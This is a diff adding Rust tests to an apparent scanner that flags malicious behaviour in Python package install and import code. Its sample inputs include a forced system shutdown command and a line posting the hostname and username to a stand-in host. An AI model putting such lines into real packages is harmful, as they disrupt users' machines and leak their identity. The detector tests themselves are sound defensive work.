@@ -913,3 +913,37 @@ os.system(l111_ (u"xyz"))
 "#;
     assert!(setup(code).contains(&"py-hidden-command".to_string()), "{:?}", setup(code));
 }
+
+#[test]
+fn desktop_programs_and_power_controls_at_install_or_import() {
+    for code in [
+        "import os\nos.system('calc.exe')\n",
+        "import subprocess\nsubprocess.Popen([\"notepad\"])\n",
+        "import os\nos.system('/sbin/shutdown -h now')\n",
+        "import subprocess\nsubprocess.call('C:\\\\Windows\\\\System32\\\\mspaint.exe', shell=True)\n",
+    ] {
+        assert_eq!(setup(code), vec!["py-foreign-program".to_string()], "{code}");
+        assert_eq!(init(code), vec!["py-foreign-program".to_string()], "{code}");
+    }
+    let facts = analyze("demo-1.0/setup.py", b"import os\nos.system('calc')\n", Context::Install, false, true);
+    assert_eq!(facts.findings[0].severity, Severity::High);
+    // Build tools, and words that only contain a listed name, are ordinary processes.
+    for code in ["import os\nos.system('calculate-deps --all')\n", "import subprocess\nsubprocess.run(['make', 'halt-check'])\n"] {
+        assert_eq!(setup(code), vec!["py-install-process".to_string()], "{code}");
+    }
+    // Only when it runs: inside a function nobody calls at import, nothing.
+    assert!(init("import os\ndef f():\n    os.system('calc')\n").is_empty());
+}
+
+#[test]
+fn host_details_sent_from_a_module_top_level_weigh_like_an_import() {
+    let top = "import requests, socket, getpass\nrequests.post('https://example.invalid/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n";
+    let facts = analyze("demo/telemetry.py", top.as_bytes(), Context::Module, false, true);
+    let f = facts.findings.iter().find(|f| f.rule == "py-exfil-hostinfo").expect("host details sent");
+    assert_eq!((f.context, f.weight), (Context::Import, Severity::High.points()));
+    // Inside a function, it runs only when called: the module's weight.
+    let inside = "import requests, socket\ndef report():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\n";
+    let facts = analyze("demo/telemetry.py", inside.as_bytes(), Context::Module, false, true);
+    let f = facts.findings.iter().find(|f| f.rule == "py-exfil-hostinfo").expect("host details sent");
+    assert_eq!(f.context, Context::Module);
+}
